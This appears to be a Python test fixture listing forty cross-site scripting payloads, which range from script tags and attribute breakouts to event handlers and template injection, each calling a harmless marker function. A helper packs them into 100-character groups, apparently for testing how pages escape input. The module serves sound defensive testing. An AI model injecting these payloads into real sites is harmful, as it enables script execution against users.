"""Forty ways in which words try to become a script; each calls `struck` if it succeeds."""

from __future__ import annotations

from typing import Final

PAYLOADS: Final = (
    "<script>struck()</script>",
    "<ScRiPt >struck()</ScRiPt>",
    "</script><script>struck()</script>",
    "</title><script>struck()</script>",
    "</textarea><script>struck()</script>",
    "</style><script>struck()</script>",
    "--><script>struck()</script><!--",
    "]]><script>struck()</script>",
    "<scr<script>ipt>struck()</scr</script>ipt>",
    "<script/x>struck()</script>",
    "<script src=data:,struck()></script>",
    "<svg><script>struck()</script></svg>",
    "<svg><script xlink:href=data:,struck() /></svg>",
    "<svg onload=struck()>",
    "<svg/onload=struck()//",
    "<svg><animate onbegin=struck() attributeName=x dur=1s>",
    "<img src=x onerror=struck()>",
    '"><img src=x onerror=struck()>',
    "'><img src=x onerror=struck()>",
    "<img src=x:x onerror\t=struck()>",
    "<img/src=x/onerror=struck()>",
    "<image src=x onerror=struck()>",
    "<video><source onerror=struck()></video>",
    "<video src=x onerror=struck()></video>",
    "<audio src=x onerror=struck()></audio>",
    "<body onload=struck()>",
    "<iframe srcdoc='<script>parent.struck()</script>'></iframe>",
    "<iframe src=javascript:parent.struck()></iframe>",
    "<object data=data:text/html,<script>struck()</script>></object>",
    "<details open ontoggle=struck()>",
    "<input autofocus onfocus=struck()>",
    '" autofocus onfocus=struck() x="',
    "' autofocus onfocus=struck() x='",
    "<marquee onstart=struck()>",
    "<style onload=struck()></style>",
    "<math><mtext><table><mglyph><style><img src=x onerror=struck()>",
    "<a href=javascript:struck() autofocus>x</a>",
    "{{constructor.constructor('struck()')()}}",
    "\\u003cscript\\u003estruck()\\u003c/script\\u003e",
    "&lt;script&gt;struck()&lt;/script&gt;",
)

_SWALLOWING: Final = (
    *("-->", "<svg/onload", "<svg onload", "<svg><animate", "<style", "<math>"),
    *("<body", "<input", '" autofocus', "<a href"),
)
"""How payloads begin behind which a browser may not see the next, or which want to be the only one of their kind."""


def _in_groups(payloads: tuple[str, ...], most_characters: int) -> tuple[str, ...]:
    """Put payloads one behind the other, so that none hides another: at most one that swallows, and that one last."""
    groups = [[payload] for payload in payloads if payload.startswith(_SWALLOWING)]
    plain = [payload for payload in payloads if not payload.startswith(_SWALLOWING)]
    for payload in sorted(plain, key=len, reverse=True):
        room = (group for group in groups if len("".join(group)) + len(payload) <= most_characters)
        group = next(room, None)
        if group is None:
            groups.append([payload])
        else:
            group.insert(0, payload)
    return tuple("".join(group) for group in groups)


GROUPS: Final = _in_groups(PAYLOADS, 100)
"""The same forty on half of the pages, as long as a name may be; a test shows that each strikes where it is let."""
